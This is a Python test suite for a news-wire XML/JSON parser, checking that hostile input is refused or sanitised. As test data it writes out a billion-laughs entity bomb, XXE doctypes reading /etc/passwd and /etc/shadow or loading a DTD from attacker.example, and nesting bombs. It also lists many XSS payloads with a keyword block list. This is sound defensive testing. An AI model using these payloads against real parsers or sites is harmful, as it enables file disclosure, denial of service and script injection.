"""Hostile and broken input: every refusal is a WireParseError with a reason, and fast.

All documents here are generated at test time.
"""

from __future__ import annotations

import json
import random
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sokuho.wire.parsing import MAX_INPUT_BYTES, WireParseError, parse_bytes
from sokuho.wire.testing import newsml_item, ninjs_item, nitf_item

from .helpers import fixture, parse_one

NAR = "http://iptc.org/std/nar/2006-10-01/"


def _refused(data: bytes) -> WireParseError:
    with pytest.raises(WireParseError) as err:
        parse_bytes(data, "hostile.xml")
    assert err.value.reason, "a refusal must say why"
    return err.value


def billion_laughs(levels: int = 10) -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        entities.append(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">')
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE newsItem [\n' + "\n".join(entities) + "\n]>\n"
        f'<newsItem xmlns="{NAR}" guid="lol"><contentMeta><headline>&lol{levels - 1};</headline>'
        "</contentMeta></newsItem>"
    ).encode()


def test_billion_laughs_is_refused_quickly() -> None:
    start = time.perf_counter()
    err = _refused(billion_laughs())
    elapsed = time.perf_counter() - start
    assert err.code == "entity-declaration"
    assert "entit" in err.reason
    assert elapsed < 0.1, elapsed  # well under 1 s: refused before libxml2 parses


def test_billion_laughs_in_utf16_is_refused_too() -> None:
    data = (
        billion_laughs()
        .decode()
        .replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
        .encode("utf-16")
    )
    assert _refused(data).code == "entity-declaration"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
        '<!DOCTYPE nitf [<!ENTITY xxe PUBLIC "-//X//Y" "file:///etc/shadow">]>',
        # lower case is not well-formed XML anyway, but must still be refused up front
        '<!DOCTYPE nitf [\n  <!entity xxe SYSTEM "file:///etc/passwd">]>',
    ],
    ids=["xxe-file", "parameter-entity", "public-id", "lowercase"],
)
def test_external_entities_are_refused(doctype: str) -> None:
    data = (
        f'<?xml version="1.0"?>{doctype}<nitf><head><docdata><doc-id id-string="x"/>'
        "</docdata></head>"
        "<body><body.head><hedline><hl1>&xxe;</hl1></hedline></body.head>"
        "<body.content><p>&xxe;</p></body.content></body></nitf>"
    ).encode()
    err = _refused(data)
    assert err.code == "entity-declaration"
    assert "root:" not in str(err)


def test_external_dtd_is_not_loaded_and_undefined_entities_are_dropped() -> None:
    data = (
        '<?xml version="1.0"?><!DOCTYPE nitf SYSTEM "file:///etc/passwd">'
        '<nitf><head><docdata><doc-id id-string="dtd-1"/>'
        '<date.issue norm="20260205T090000Z"/></docdata></head>'
        "<body><body.head><hedline><hl1>見出し&mdash;続き</hl1></hedline></body.head>"
        "<body.content><p>本文&unknownthing;です</p></body.content></body></nitf>"
    ).encode()
    item = parse_one(data)
    assert item.headline == "見出し—続き"
    assert item.body_html == "<p>本文です</p>"
    assert any("unknownthing" in w for w in item.warnings)
    assert "root:" not in item.body_html


def test_external_dtd_file_is_never_read(tmp_path) -> None:  # type: ignore[no-untyped-def]
    # A DTD that defines an entity, and one that is not a DTD at all: if libxml2 read
    # either, the entity would expand or the parse would fail on the garbage.
    defining = tmp_path / "defines.dtd"
    defining.write_text('<!ENTITY secret "TOPSECRET">')
    garbage = tmp_path / "garbage.dtd"
    garbage.write_text("this is not a DTD")
    for dtd in (defining, garbage):
        data = (
            f'<?xml version="1.0"?><!DOCTYPE nitf SYSTEM "{dtd.as_uri()}">'
            '<nitf><head><docdata><doc-id id-string="dtd-2"/></docdata></head>'
            "<body><body.head><hedline><hl1>見出し</hl1></hedline></body.head>"
            "<body.content><p>a&secret;b</p></body.content></body></nitf>"
        ).encode()
        item = parse_one(data)
        assert item.body_html == "<p>ab</p>"
        assert "TOPSECRET" not in repr(item)


def test_xinclude_is_not_processed() -> None:
    data = (
        f'<newsItem xmlns="{NAR}" xmlns:xi="http://www.w3.org/2001/XInclude" guid="xi">'
        "<itemMeta><versionCreated>2026-02-05T10:00:00Z</versionCreated></itemMeta>"
        "<contentMeta><headline>見出し</headline></contentMeta><contentSet>"
        '<inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><body>'
        '<p>前<xi:include href="file:///etc/passwd" parse="text"/>後</p></body></html></inlineXML>'
        "</contentSet></newsItem>"
    ).encode()
    item = parse_one(data)
    assert item.body_html == "<p>前後</p>"


def test_fifty_megabyte_body_is_refused_before_parsing() -> None:
    head = (
        f'<newsItem xmlns="{NAR}" guid="big"><contentMeta><headline>大きい</headline></contentMeta>'
    )
    data = (
        head
        + "<contentSet><inlineData>"
        + "あ" * (50 * 1024 * 1024 // 3)
        + "</inlineData></contentSet></newsItem>"
    ).encode()
    assert len(data) > 50 * 1_000_000
    start = time.perf_counter()
    err = _refused(data)
    elapsed = time.perf_counter() - start
    assert err.code == "too-large"
    assert f"{MAX_INPUT_BYTES:,}" in err.reason
    assert elapsed < 0.05, elapsed


def test_size_limit_applies_to_json_too() -> None:
    data = json.dumps(
        {"uri": "urn:big", "headline": "x", "body_text": "a" * MAX_INPUT_BYTES}
    ).encode()
    assert _refused(data).code == "too-large"


@pytest.mark.parametrize(
    "data",
    [
        fixture("newsmlg2/text_item.xml")[:700],
        fixture("newsmlg2/message_two_items.xml")[:-30],
        fixture("nitf/nitf36_ns.xml")[:1200],
        b'<?xml version="1.0" encoding="UTF-8"?>',
        b"<newsItem",
    ],
    ids=["newsitem-half", "message-tail-cut", "nitf-cut", "declaration-only", "open-tag"],
)
def test_truncated_xml(data: bytes) -> None:
    err = _refused(data)
    assert err.code == "xml-syntax"
    assert "not well-formed" in err.reason


def test_truncated_json() -> None:
    err = _refused(fixture("ninjs/ninjs2_text.json")[:300])
    assert err.code == "json-syntax"


@pytest.mark.parametrize(
    "data",
    [b"", b"   ", b"\n\r\n", b"\xef\xbb\xbf"],
    ids=["empty", "spaces", "newlines", "bom-only"],
)
def test_empty_input(data: bytes) -> None:
    assert _refused(data).code in ("empty", "not-wire")


@pytest.mark.parametrize("seed", range(5))
def test_binary_garbage(seed: int) -> None:
    data = bytes([0x89]) + random.Random(seed).randbytes(4096)
    err = _refused(data)
    assert err.code == "not-wire"


def test_png_is_named() -> None:
    assert "PNG" in _refused(b"\x89PNG\r\n\x1a\n" + bytes(100)).reason


@pytest.mark.parametrize(
    "obj",
    [{"title": "x", "content": "本文"}, {"type": "FeatureCollection", "features": []}, [1, 2], {}],
    ids=["blog-post", "geojson", "array-of-numbers", "empty-object"],
)
def test_json_that_is_not_ninjs(obj: object) -> None:
    err = _refused(json.dumps(obj).encode())
    assert err.code == "not-ninjs"
    assert "not" in err.reason and "ninjs" in err.reason


@pytest.mark.parametrize(
    "data",
    [
        newsml_item(1, headline=""),
        ninjs_item(1, major=1, headline=""),
        ninjs_item(1, major=3, headline=""),
        nitf_item(1).replace(b"<hl1>", b"<hl1><!-- -->").replace(b"<title>", b"<title><!-- x -->"),
    ],
    ids=["newsml-g2", "ninjs-1", "ninjs-3", "nitf-empty-title-kept"],
)
def test_item_without_headline(data: bytes) -> None:
    try:
        items = parse_bytes(data)
    except WireParseError as err:
        assert err.code == "no-headline"
        assert "headline" in err.reason
    else:  # the NITF case keeps its (non-empty) title: a headline after all
        assert all(i.headline for i in items)


def test_nitf_without_any_headline() -> None:
    data = (
        '<nitf><head><docdata><doc-id id-string="n"/></docdata></head>'
        "<body><body.content><p>本文だけ</p></body.content></body></nitf>"
    ).encode()
    assert _refused(data).code == "no-headline"


def test_json_nesting_bomb() -> None:
    data = (
        b'{"uri": "urn:deep", "headline": "x", "subjects": '
        + b"[" * 200_000
        + b"]" * 200_000
        + b"}"
    )
    err = _refused(data)
    assert err.code == "json-syntax"


def test_json_huge_integer() -> None:
    data = b'{"uri": "urn:int", "headline": "x", "urgency": ' + b"9" * 100_000 + b"}"
    assert _refused(data).code == "json-syntax"


def test_xml_nesting_bomb() -> None:
    data = (
        f'<newsItem xmlns="{NAR}" guid="deep">'.encode()
        + b"<a>" * 100_000
        + b"</a>" * 100_000
        + b"</newsItem>"
    )
    start = time.perf_counter()
    assert _refused(data).code == "xml-syntax"
    assert time.perf_counter() - start < 1


def test_str_input_is_a_programming_error() -> None:
    with pytest.raises(TypeError):
        parse_bytes("<nitf/>")  # type: ignore[arg-type]


HTML_ATTACKS = [
    "<p>a<script>alert(1)</script>b</p>",
    '<p onclick="alert(1)">a</p>',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<svg onload="alert(1)"><circle/></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://attacker.example/"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<base href="https://attacker.example/">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<form action="https://attacker.example/"><input name="pw"></form>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    "<p><!--<script>alert(1)</script>--></p>",
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://ok.example/" onmouseover="alert(1)" style="x">ok</a>',
]
FORBIDDEN = ("script", "alert", "onerror", "onclick", "onload", "ontoggle", "onmouseover", "style",
             "<img", "<svg", "<math", "<iframe", "<object", "<embed", "<base", "<meta", "<form",
             "<input", "<link", "vbscript", "data:", "attacker")  # fmt: skip


@pytest.mark.parametrize("payload", HTML_ATTACKS)
@pytest.mark.parametrize("fmt", ["ninjs-1", "ninjs-3", "newsml-g2-inline-html"])
def test_html_attacks_are_sanitised(payload: str, fmt: str) -> None:
    if fmt == "ninjs-1":
        data = json.dumps({"uri": "urn:x", "headline": "h", "body_html": payload}).encode()
    elif fmt == "ninjs-3":
        bodies = [{"contentType": "text/html", "value": payload}]
        data = json.dumps(
            {"uri": "urn:x", "headlines": [{"value": "h"}], "bodies": bodies}
        ).encode()
    else:
        from xml.sax.saxutils import escape

        data = (
            f'<newsItem xmlns="{NAR}" guid="x"><contentMeta><headline>h</headline></contentMeta>'
            f'<contentSet><inlineData contenttype="text/html">{escape(payload)}</inlineData>'
            "</contentSet></newsItem>"
        ).encode()
    body = parse_one(data).body_html.lower()
    for bad in FORBIDDEN:
        assert bad not in body, (bad, body)


@settings(
    max_examples=300, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
)
@given(st.binary(max_size=2048))
def test_arbitrary_bytes_only_ever_raise_wire_parse_error(data: bytes) -> None:
    try:
        parse_bytes(data)
    except WireParseError as err:
        assert err.reason


_SEED_NAMES = (
    "newsmlg2/text_item.xml",
    "newsmlg2/message_two_items.xml",
    "ninjs/ninjs1_text.json",
    "ninjs/ninjs3_text.json",
    "nitf/nitf36_ns.xml",
)
_SEEDS = [fixture(n) for n in _SEED_NAMES]


@settings(max_examples=300, deadline=None, database=None)
@given(st.sampled_from(_SEEDS), st.integers(0, 10_000), st.integers(0, 64), st.binary(max_size=8))
def test_mutated_fixtures_only_ever_raise_wire_parse_error(
    seed: bytes, at: int, cut: int, junk: bytes
) -> None:
    at %= len(seed)
    data = seed[:at] + junk + seed[at + cut :]
    try:
        items = parse_bytes(data)
    except WireParseError as err:
        assert err.reason
    else:
        assert items and all(i.headline and i.guid for i in items)
